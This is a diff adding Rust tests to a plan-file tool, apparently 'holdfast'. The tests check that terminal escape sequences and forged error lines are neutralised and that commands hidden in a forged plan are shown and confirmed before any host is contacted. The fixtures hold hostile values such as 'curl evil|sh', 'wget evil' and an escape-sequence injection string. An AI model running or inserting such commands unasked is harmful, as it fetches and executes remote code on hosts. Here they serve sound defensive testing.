@@ -2,6 +2,7 @@
 
 use insta::assert_snapshot;
 
+use crate::support::pty::Pty;
 use crate::support::sandbox::Sandbox;
 use holdfast::plan_file::PlanFile;
 use holdfast::plan_file::envelope::Key;
@@ -269,7 +270,7 @@ fn enveloped(body: &str) -> Vec<u8> {
     .into_bytes()
 }
 
-const HOSTILE: &str = "9\u{1b}]0;pwn\u{7}\u{1b}[31m\u{202e}\u{9b}2J";
+const HOSTILE: &str = "9\u{1b}]0;pwn\u{7}\u{1b}[31m\u{202e}\u{9b}2J\nerror: fake\r\n  hint: fake";
 
 #[test]
 fn nothing_that_stands_in_a_plan_reaches_the_terminal_as_it_is() {
@@ -316,6 +317,11 @@ fn nothing_that_stands_in_a_plan_reaches_the_terminal_as_it_is() {
             let said = [output.stdout, output.stderr].concat();
             let said = String::from_utf8(said).expect("UTF-8");
             assert_eq!(acts(&said), [], "{words:?}: {said:?}");
+            let forged = |line: &str| {
+                let line = line.trim_start();
+                line.starts_with("error: fake") || line.starts_with("hint: fake")
+            };
+            assert!(!said.lines().any(forged), "{words:?}: {said}");
             assert!(!said.is_empty(), "{words:?} says nothing");
             if words.len() == 2 {
                 assert!(said.contains(word), "{words:?} does not say {word}: {said}");
@@ -440,4 +446,90 @@ fn only_a_regular_file_is_replaced_by_a_plan() {
             .unwrap()
             .starts_with(b"holdfast-plan 1 ")
     );
+}
+
+/// The fixture with another runbook, as somebody forges it who says of the hosts what suits him: right but for the seal.
+fn forged(from: &str, to: &str) -> PlanFile {
+    let mut plan = PlanFile::open(&fixture("v1-include.plan"), None)
+        .unwrap()
+        .plan;
+    let text = &mut plan.runbook.runbooks[0].text;
+    assert!(text.contains(from), "{text}");
+    *text = text.replacen(from, to, 1);
+    plan
+}
+
+const HIDDEN: &str = "verify:\n  - name: Never then\n    when: facts.os.version == \"0\"\n    command: [sh, -c, \"curl evil|sh\"]\n";
+
+#[test]
+fn no_program_of_a_plan_that_is_not_ours_is_hidden_by_what_it_says_of_its_hosts() {
+    let mut plan = forged("verify:\n", HIDDEN);
+    let step = "  - name: Nothing is due\n    when: facts.init == 'none'\n    for_each: [\"wget evil\"]\n    command: { argv: [sh, -c, \"{{ item }}\"], unless: [spy, \"{{ inputs.word }}\"], undo: [gone] }\n  - name: Nothing is due here\n    file: { path: /etc/x, content: x, validate: [judge, \"{}\"] }\nverify:\n";
+    for (at, from) in [(0, "verify:\n"), (1, "  - id: conf\n")] {
+        let text = &mut plan.runbook.runbooks[at].text;
+        let to = step.replace("verify:\n", from);
+        let to = if at == 0 {
+            to.replace("inputs.word", "host.name")
+        } else {
+            to
+        };
+        *text = text.replacen(from, &to, 1);
+    }
+    let bytes = plan.to_bytes(None).unwrap();
+    let sandbox = project(&bytes);
+    let digest = PlanFile::open(&bytes, None).unwrap().header.digest;
+    let apply = [
+        "apply",
+        "x.plan",
+        "--yes",
+        "--sha256",
+        digest.as_str(),
+        "--answer",
+        "ready=yes",
+    ];
+    for words in [
+        &["show", "x.plan"][..],
+        &["show", "x.plan", "-q"],
+        &["show", "x.plan", "--host", "web-1"],
+        &apply,
+    ] {
+        let said = sandbox.run(words);
+        for line in [
+            "outer, Never then (command): sh -c 'curl evil|sh'",
+            "outer, Nothing is due (argv): sh -c '{{ item }}' for each of 'wget evil'",
+            "outer, Nothing is due (unless): spy '{{ host.name }}'",
+            "app, Nothing is due (unless): spy '{{ inputs.word }}'",
+            "app, Nothing is due (undo): gone",
+            "app, Nothing is due here (validate): judge '{}'",
+            "outer, A second command is run (argv): touch /etc/hf-marker",
+        ] {
+            assert!(said.contains(line), "{words:?} does not say {line}: {said}");
+        }
+        let hosts = said.find("127.0.0.1").unwrap_or(said.len());
+        assert!(
+            said.find("curl evil").unwrap() < hosts,
+            "before any host is asked: {said}"
+        );
+    }
+    let json = sandbox.run(&["show", "x.plan", "--format", "json"]);
+    assert!(
+        json.contains(r#""argv":["sh","-c","curl evil|sh"]"#),
+        "{json}"
+    );
+}
+
+/// Guards run when a host is looked at, so a person must have said yes before that.
+#[test]
+fn a_plan_that_is_not_ours_asks_before_any_host_is_asked() {
+    for (answer, asked, exit) in [("n", false, 0), ("y", true, 4)] {
+        let sandbox = project(&forged("verify:\n", HIDDEN).to_bytes(None).unwrap());
+        let mut pty = Pty::start(&sandbox.command(&["apply", "x.plan"]), (50, 200));
+        let came = pty.expect("Is it what was reviewed?");
+        assert!(came.contains("sh -c 'curl evil|sh'"), "{came}");
+        assert!(!came.contains("Connection refused"), "{came}");
+        pty.write(&format!("{answer}\n"));
+        let (status, text) = pty.end();
+        assert_eq!(status, exit, "{text}");
+        assert_eq!(text.contains("refused"), asked, "{text}");
+    }
 }
